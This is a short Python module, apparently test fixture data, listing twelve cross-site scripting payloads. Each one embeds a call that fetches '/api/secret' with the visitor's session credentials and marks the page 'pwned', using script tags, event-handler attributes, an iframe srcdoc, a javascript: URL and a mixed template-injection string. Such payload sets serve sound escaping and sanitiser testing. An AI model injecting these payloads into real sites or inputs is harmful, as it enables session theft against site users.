"""Texts that become programs where a page takes data for markup."""

from __future__ import annotations

CALL = "fetch('/api/secret',{credentials:'include'});document.title='pwned';globalThis.pwned=1"
"""What each of them would do: ask for something with the reader's session, and leave a mark."""

PAYLOADS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</script ><svg/onload=\"{CALL}\">",
    f"<img src=x onerror=\"{CALL}\">",
    f"\"><img src=x onerror=\"{CALL}\">",
    f"'><details open ontoggle=\"{CALL}\">",
    f"<!--<script>{CALL}//-->",
    f"]]></script><script>{CALL}</script>",
    f"\u2028</script\u2029><script>{CALL}</script>",
    "<iframe srcdoc=\"<script>parent.fetch('/api/secret',{credentials:'include'})</script>\">",
    f"javascript:{CALL}",
    f"{{{{ ''.__class__ }}}}${{{CALL}}}\u202e\x1b[31m</title></style><script>{CALL}</script>",
)  # fmt: skip
